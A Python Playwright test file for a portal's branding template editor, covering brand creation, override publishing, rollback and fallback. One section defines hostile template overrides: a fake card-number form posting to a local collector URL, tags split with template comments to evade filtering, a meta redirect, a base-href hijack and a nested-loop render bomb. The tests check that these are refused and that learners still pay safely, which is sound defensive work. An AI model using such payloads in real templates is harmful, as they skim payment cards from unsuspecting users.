"""The marketer's template editor and a custom brand in a real browser (Debian's Chromium through
Playwright, against the live sandbox portal): sign in, create a brand, edit an override of the
review page's heading, preview it, publish it, see it on a learner's review page, roll it back,
and watch a broken override fall back to the default. The branded review page passes axe-core.
Screenshots: test-artifacts/screenshots/branding-*.png."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from portal.models import TemplateOverride
from tests import test_browser as shared
from tests.admin_support import PASSWORD
from tests.test_browser import (
    DESKTOP,
    PHONE,
    assert_fits_horizontally,
    axe_violations,
    screenshot,
    seed_purchase,
)

# The browser, the live sandbox portal and the axe source: the same fixtures as test_browser.py.
browser = shared.browser
axe_source = shared.axe_source
portal = shared.portal
new_page = shared.new_page

pytestmark = [
    pytest.mark.browser,
    pytest.mark.parametrize("database_url", ["sqlite"], indirect=True),
]

HEADING_OVERRIDE = (
    '{% extends "default:review.html" %}\n'
    '{% block heading %}<h1>{{ brand.name }}: {{ _("Review your order") }}</h1>{% endblock %}\n'
)


def shot(page: Page, name: str) -> None:
    screenshot(page, f"branding-{name}")


def sign_in_marketer(page: Page, server) -> None:
    result = server.app.test_cli_runner().invoke(
        args=[
            "portal",
            "create-user",
            "brand@example.com",
            "--role",
            "marketer",
            "--password-stdin",
        ],
        input=PASSWORD + "\n",
    )
    assert result.exit_code == 0, result.output
    page.goto(f"{server.url}/admin/login")
    page.get_by_label("Email").fill("brand@example.com")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Branding", exact=True)).to_be_visible()


def create_brand(page: Page) -> None:
    page.get_by_role("link", name="Add a brand").click()
    page.get_by_label("Name shown to learners").fill("Northwind Academy")
    page.get_by_label("Primary colour (buttons, links)").fill("#0b6e4f")
    page.get_by_label("Text colour").fill("#102a43")
    page.get_by_label("Page background colour").fill("#eef6f2")
    page.get_by_label("Accent colour (focus ring)").fill("#7a1fa2")
    page.get_by_label("Font stack").select_option("humanist")
    page.get_by_label("Support email").fill("help@northwind.example")
    page.get_by_label("Under the review page's heading", exact=True).fill(
        "Members save 20% on every course this month."
    )
    page.get_by_role("button", name="Save brand").click()
    expect(page.get_by_role("status").first).to_contain_text("Brand Northwind Academy saved")
    expect(page.get_by_role("table", name="Contrast (WCAG 2.2 AA)")).not_to_contain_text("fails")
    shot(page, "brand")


def review_page(new_page, server, viewport=DESKTOP) -> Page:
    learner = new_page(viewport)
    purchase_id = seed_purchase(server)
    learner.goto(f"{server.url}/skilljar/checkout?purchase_id={purchase_id}")
    return learner


def test_a_marketer_edits_previews_publishes_and_rolls_back_a_template(
    portal,
    new_page,
    axe_source,
):
    server = portal()
    page = new_page(DESKTOP)
    sign_in_marketer(page, server)
    create_brand(page)

    # Edit an override of the review page's heading.
    page.get_by_role("navigation", name="Console").get_by_role("link", name="Branding").click()
    page.get_by_role("link", name="review.html", exact=True).click()
    expect(page.get_by_role("heading", name=re.compile("Template review.html"))).to_be_visible()
    page.get_by_label("Override source").fill(HEADING_OVERRIDE)
    page.get_by_label("What changed").fill("Brand name in the heading")
    page.get_by_role("button", name="Check and save as a new version").click()
    expect(page.get_by_role("status").first).to_contain_text("Version 1 saved and checked")
    shot(page, "editor")

    # Preview the draft with sample data: a three-decimal currency and a long title.
    page.get_by_role("link", name="Review: KWD (three decimals)").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "Northwind Academy: Review your order"
    )
    expect(page.locator(".summary")).to_contain_text("KWD")
    expect(page.get_by_label("Preview")).to_be_visible()
    shot(page, "preview-kwd")
    page.go_back()
    page.get_by_role("link", name="Review: long title").click()
    assert_fits_horizontally(page)
    shot(page, "preview-long-title")
    page.go_back()

    # Not live until published.
    learner = review_page(new_page, server)
    expect(learner.get_by_role("heading", level=1)).to_have_text("Review your order")
    page.get_by_role("button", name="Publish version 1").click()
    expect(page.get_by_role("status").first).to_contain_text("Version 1 of review.html is live")
    learner.reload()
    expect(learner.get_by_role("heading", level=1)).to_have_text(
        "Northwind Academy: Review your order"
    )
    expect(learner.locator(".intro")).to_have_text("Members save 20% on every course this month.")
    # The brand's colours arrive through its stylesheet (no inline styles, CSP intact).
    colour = learner.get_by_role("button", name=re.compile("^Pay ")).evaluate(
        "el => getComputedStyle(el).backgroundColor"
    )
    assert colour == "rgb(11, 110, 79)"
    assert learner.problems == []
    shot(learner, "live-review-desktop")
    violations = axe_violations(learner, axe_source)
    assert violations == [], violations
    phone = review_page(new_page, server, PHONE)
    assert_fits_horizontally(phone)
    assert axe_violations(phone, axe_source) == []
    shot(phone, "live-review-phone")

    # A second version, published, then one click back to the first.
    page.get_by_label("Override source").fill(
        HEADING_OVERRIDE.replace("Review your order", "Almost there")
    )
    page.get_by_role("button", name="Check and save as a new version").click()
    page.get_by_role("button", name="Publish version 2").click()
    learner.reload()
    expect(learner.get_by_role("heading", level=1)).to_have_text(
        re.compile("Northwind Academy: Almost there")
    )
    expect(page.locator("pre.diff")).to_contain_text("Almost there")
    shot(page, "history")
    page.get_by_role("button", name="Roll back to v1").click()
    expect(page.get_by_role("status").first).to_contain_text("Rolled back")
    learner.reload()
    expect(learner.get_by_role("heading", level=1)).to_have_text(
        "Northwind Academy: Review your order"
    )
    shot(page, "rolled-back")


def test_a_broken_override_falls_back_to_the_default_page(portal, new_page):
    server = portal()
    # A live version that stopped rendering (it checked clean once; the data changed since).
    from portal.db import db

    with server.app.app_context(), db.transaction() as session:
        session.add(
            TemplateOverride(
                template_name="review.html",
                version=1,
                source='{% extends "default:review.html" %}'
                "{% block heading %}<h1>{{ order.renamed_field }}</h1>{% endblock %}",
                author="brand@example.com",
                published=True,
            )
        )
    learner = review_page(new_page, server)
    expect(learner.get_by_role("heading", level=1)).to_have_text("Review your order")
    expect(learner.get_by_role("button", name=re.compile("^Pay "))).to_be_enabled()
    shot(learner, "fallback-review")

    page = new_page(DESKTOP)
    sign_in_marketer(page, server)
    row = page.get_by_role("row", name=re.compile(r"^review\.html"))
    expect(row).to_contain_text("1 failed render(s)")
    expect(row).to_contain_text("renamed_field")
    shot(page, "fallback-console")


# --- hostile overrides (issue 23): refused in the editor; published behind its back, a learner
# still pays -----------------------------------------------------------------------------------

COLLECTOR = "http://127.0.0.2:5699/collect"
HOSTILE_REVIEW = (
    '{% extends "default:review.html" %}\n'
    "{% block content %}<h1>Big sale!</h1>\n"
    f'<fo{{##}}rm action="{COLLECTOR}" method="post"><label>Card number '
    '<in{##}put name="card"></label><button>Pay now</button></form>\n'
    '<me{##}ta http-equiv="refresh" content="5;url=https://example.com/">\n'
    "{% endblock %}\n"
)
HOSTILE_BASE = (
    '{% extends "default:base.html" %}{% block footer %}'
    '<{% raw %}base{% endraw %} href="http://127.0.0.2:5699/">'
    "{% for i in range(100) %}{% for j in range(100) %}{% for k in range(100) %}"
    "{% endfor %}{% endfor %}{% endfor %}{% endblock %}"
)
BLOCKS_AROUND = (
    '{% extends "default:review.html" %}\n'
    "{% block heading %}<h1>Big sale!</h1>{% endblock %}\n"
    '{% block before_checkout %}<p class="intro">Ends <strong>Friday</strong>.</p>'
    "{% endblock %}\n"
)


def publish_behind_the_consoles_back(server, name: str, source: str, version: int = 50) -> None:
    from portal.branding import cache
    from portal.db import db

    with server.app.app_context(), db.transaction() as session:
        session.add(
            TemplateOverride(
                template_name=name,
                version=version,
                source=source,
                author="intruder@example.com",
                published=True,
            )
        )
    cache.forget()


def test_hostile_overrides_are_refused_and_a_learner_still_pays(portal, new_page):
    server = portal(BRANDING_CACHE_SECONDS="0")
    page = new_page(DESKTOP)
    sign_in_marketer(page, server)

    # The editor refuses the hostile page, says why beside the version, and never shows it.
    page.get_by_role("link", name="review.html", exact=True).click()
    page.get_by_label("Override source").fill(HOSTILE_REVIEW)
    page.get_by_role("button", name="Check and save as a new version").click()
    problems = page.locator("ul.problems")
    expect(problems).to_contain_text("forms come only from the locked checkout parts")
    expect(problems).to_contain_text("the Pay, Try again and Cancel forms")
    shot(page, "refused-editor")
    page.get_by_role("button", name="Publish version 1").click()
    expect(page.get_by_role("alert").first).to_contain_text("cannot be published")
    shot(page, "refused-publish")
    page.get_by_role("link", name="Review: open, promo code, quantity 2").click()
    expect(page.get_by_role("heading", name="Preview failed")).to_be_visible()
    expect(page.locator("ul.problems")).to_contain_text("<meta")
    assert COLLECTOR not in page.content()
    shot(page, "refused-preview")
    page.go_back()

    # Blocks around the essentials publish, and a learner sees them.
    page.get_by_label("Override source").fill(BLOCKS_AROUND)
    page.get_by_role("button", name="Check and save as a new version").click()
    expect(page.get_by_role("status").first).to_contain_text("Version 2 saved and checked")
    page.get_by_role("button", name="Publish version 2").click()
    expect(page.get_by_role("status").first).to_contain_text("Version 2 of review.html is live")
    learner = review_page(new_page, server)
    expect(learner.get_by_role("heading", level=1)).to_have_text("Big sale!")
    expect(learner.locator(".intro")).to_contain_text("Ends Friday.")
    shot(learner, "blocks-around-live")

    # The hostile versions, made live behind the console's back: learners get the default.
    publish_behind_the_consoles_back(server, "review.html", HOSTILE_REVIEW)
    publish_behind_the_consoles_back(server, "base.html", HOSTILE_BASE)
    collected = []
    learner = new_page(DESKTOP)
    learner.on("request", lambda r: "127.0.0.2" in r.url and collected.append(r.url))
    learner.goto(f"{server.url}/skilljar/checkout?purchase_id={seed_purchase(server)}")
    expect(learner.get_by_role("heading", level=1)).to_have_text("Review your order")
    assert learner.locator("form[action*='127.0.0.2']").count() == 0
    assert learner.locator("meta[http-equiv]").count() == 0
    shot(learner, "hostile-fallback-review")
    learner.get_by_role("button", name=re.compile("^Pay ")).click()
    learner.wait_for_url(re.compile(r"/sandbox/stripe/pay/cs_[A-Za-z0-9_]+$"))
    learner.get_by_label("Card number").fill("4242 4242 4242 4242")
    learner.get_by_label("Expiry").fill(shared.EXPIRY)
    learner.get_by_label("CVC").fill("123")
    learner.get_by_label("Name on card").fill("Ada Lovelace")
    learner.get_by_role("button", name="Pay", exact=True).click()
    learner.wait_for_url(shared.THANK_YOU_URL)
    expect(learner.locator("#purchase-state")).to_have_text("SUCCESS")
    assert collected == []
    assert learner.problems == []


def test_a_brand_change_is_previewed_as_a_draft_then_published(portal, new_page):
    server = portal(BRANDING_CACHE_SECONDS="0")
    page = new_page(DESKTOP)
    sign_in_marketer(page, server)
    create_brand(page)
    learner = review_page(new_page, server)
    expect(learner.locator(".intro")).to_have_text("Members save 20% on every course this month.")

    # A change is a draft: previewed on the sample pages, in French too, not live.
    page.get_by_label("Under the review page's heading", exact=True).fill(
        "<b>Sale</b> ends Friday."
    )
    page.get_by_role("button", name="Save as a draft").click()
    error = page.locator("#review_intro-error")
    expect(error).to_contain_text("Plain text only")
    shot(page, "brand-refused-field")
    page.get_by_label("Under the review page's heading", exact=True).fill(
        "Our autumn sale ends Friday."
    )
    page.get_by_label("Under the review page's heading (fr)").fill(
        "Notre promotion d’automne se termine vendredi."
    )
    page.get_by_label("Primary colour (buttons, links)").fill("#7a1fa2")
    page.get_by_label("What changed").fill("Autumn sale")
    page.get_by_role("button", name="Save as a draft").click()
    expect(page.get_by_role("status").first).to_contain_text("Version 2 saved as a draft")
    page.get_by_role("link", name="Review: open, promo code, quantity 2", exact=True).click()
    expect(page.locator(".intro")).to_have_text("Our autumn sale ends Friday.")
    colour = page.get_by_role("button", name=re.compile("^Pay ")).evaluate(
        "el => getComputedStyle(el).backgroundColor"
    )
    assert colour == "rgb(122, 31, 162)"
    shot(page, "brand-preview")
    page.go_back()
    page.locator("ul.preview-links li").first.get_by_role("link", name="fr").click()
    expect(page.locator(".intro")).to_have_text("Notre promotion d’automne se termine vendredi.")
    shot(page, "brand-preview-fr")
    page.go_back()
    learner.reload()
    expect(learner.locator(".intro")).to_have_text("Members save 20% on every course this month.")

    page.get_by_role("button", name="Publish version 2").click()
    expect(page.get_by_role("status").first).to_contain_text("Version 2 of brand")
    learner.reload()
    expect(learner.locator(".intro")).to_have_text("Our autumn sale ends Friday.")
    shot(page, "brand-history")
